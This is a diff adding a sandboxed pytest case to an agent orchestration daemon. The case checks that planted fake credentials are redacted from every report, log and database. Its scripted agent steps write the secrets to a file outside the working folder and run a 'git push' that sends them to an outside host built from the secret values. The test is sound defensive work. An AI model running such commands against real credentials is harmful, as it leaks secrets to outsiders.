@@ -7,7 +7,9 @@ from __future__ import annotations
 import json
 
 import pytest
+from kit.cell import ENV, needs_bwrap, settings
 from kit.script import DAY, bash, say, scenario, task, write
+from kit.world import World
 
 from orchestrd.audit.finding import problems
 from orchestrd.audit.home import check_home
@@ -22,6 +24,8 @@ WORDS = "AKIAPLANTEDINWORDS01"
 REMOTE = "planted-remote-9d2"
 SUMMARY = "xoxb-000000-plantedinsummary"
 ALL = (ENVIRONMENT, TASK, INPUT, OUTPUT, WORDS, REMOTE, SUMMARY)
+KEPT = "corp-gw-9zq7planted3f51"
+OURS = "planted-daemon-b71c"
 ADDRESS = f"https://me:{REMOTE}@forge.example/x.git"
 
 
@@ -79,3 +83,36 @@ def test_no_planted_secret_is_told(make_world):
     found = problems(check_home(world.home, environ=world.environ, logs=[world.log]))
     assert [finding for finding in found if finding.invariant == "I9"] == []
     assert DAY in sinks["status"]
+
+
+@needs_bwrap
+def test_nor_one_that_agents_are_not_shown(make_world, monkeypatch):
+    """
+    The key that stays outside of the sandbox, and what only the daemon has: an agent can come by either, and say it.
+    """
+    environ = World.environ.fget
+    monkeypatch.setattr(World, "environ", property(lambda self: {**environ(self), "BILLING_PASSWORD": OURS}))
+    world = make_world(
+        [
+            scenario(
+                "a",
+                write("seen.txt", "x\n"),
+                bash(f"printf '%s' '{KEPT}, {OURS}' > ../summary.md"),
+                say(f"{KEPT}, {OURS}."),
+            ),
+            scenario("b", bash(f"git push https://{OURS}.example/{KEPT} main"), say("never")),
+        ],
+        config=settings(credentials="proxy"),
+        env={**ENV, "ANTHROPIC_API_KEY": KEPT},
+    )
+    world.submit(task("a"), task("b"))
+    assert world.wait() == {"a": "succeeded", "b": "failed"}
+    shown = [("report",), ("status",), ("status", "a"), ("why", "a"), ("why", "b"), ("events", "--json")]
+    sinks = {" ".join(words): world.orchctl(*words).out for words in shown}
+    for place in (*(world.home / "var" / "results").iterdir(), *(world.home / "var" / "agent_status").rglob("*.json")):
+        sinks[place.name] = place.read_text()
+    sinks["journal"] = repr([(world.home / "var" / name).read_bytes() for name in ("orchestrd.db", "orchestrd.db-wal")])
+    assert {sink for sink, text in sinks.items() if KEPT in text or OURS in text} == set()
+    assert "[secret], [secret]" in sinks["report"]
+    # Whoever looks has another environment, and finds nothing wrong.
+    assert problems(check_home(world.home)) == []
